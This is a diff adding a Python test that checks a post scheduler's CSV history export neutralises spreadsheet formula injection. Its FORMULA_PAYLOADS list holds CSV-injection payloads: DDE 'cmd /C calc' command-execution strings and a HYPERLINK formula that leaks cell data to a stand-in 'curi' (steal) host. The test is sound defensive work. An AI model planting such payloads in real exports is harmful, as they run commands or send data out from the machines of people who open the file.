@@ -50,7 +50,7 @@ def test_plan_then_queue_lists_documented_objects(config: Path) -> None:
 
 
 def test_catalogue_commands_record_who_decided(config: Path) -> None:
-    listing = json.loads(run(config, "catalogue", "list", "--format", "json").output)
+    listing = json.loads(run(config, "catalogue", "list", "--format", "json").stdout)  # stderr: the new store
     statuses = {entry["id"]: entry["status"] for entry in listing}
     assert statuses["surat-pengantar-kelurahan-wa"] == "draft"
     assert statuses["lapor-bantuan-sosial"] == "rejected"
@@ -131,6 +131,40 @@ def test_history_csv_is_an_evidence_report(config: Path) -> None:
     assert rows and set(rows[0]) == POST_KEYS
     assert all(row["when"].startswith("2026-12-02") and row["state"] == "published" for row in rows)
     assert all(row["remote_url"] and row["text"] for row in rows)
+
+
+#: What a hostile catalogue row, platform answer or operator could put at the start of a cell; a
+#: spreadsheet opening the report would run each as a formula (OWASP, "CSV Injection").
+FORMULA_PAYLOADS = [
+    '=HYPERLINK("https://contoh.invalid/curi?d="&A1,"Klik untuk detail")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_history_csv_never_hands_a_spreadsheet_a_formula(config: Path) -> None:
+    run(config, "plan", "--days", "14")
+    ws = Workspace(load_config(config), datetime(2026, 12, 1, 1, 0, tzinfo=timezone.utc))
+    posts = ws.store.posts([PostState.PLANNED])[: len(FORMULA_PAYLOADS)]
+    for post, payload in zip(posts, FORMULA_PAYLOADS):
+        ws.store.transition(post.id, PostState.FAILED, ws.now(), payload, text=payload, remote_id=payload,
+                            remote_url=payload, attempts=3)
+    ws.close()
+
+    result = run(config, "history", "--format", "csv")
+
+    assert result.exit_code == 0, result.output
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(result.output, newline=""))}
+    for post, payload in zip(posts, FORMULA_PAYLOADS):
+        row = rows[str(post.id)]
+        for column in ("text", "reason", "remote_id", "remote_url"):
+            assert row[column] == "'" + payload, (column, row[column])
+        assert row["attempts"] == "3"  # a number stays a number
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows.values() for cell in row.values())
 
 
 def test_pause_status_resume_and_backup(config: Path, tmp_path: Path) -> None:
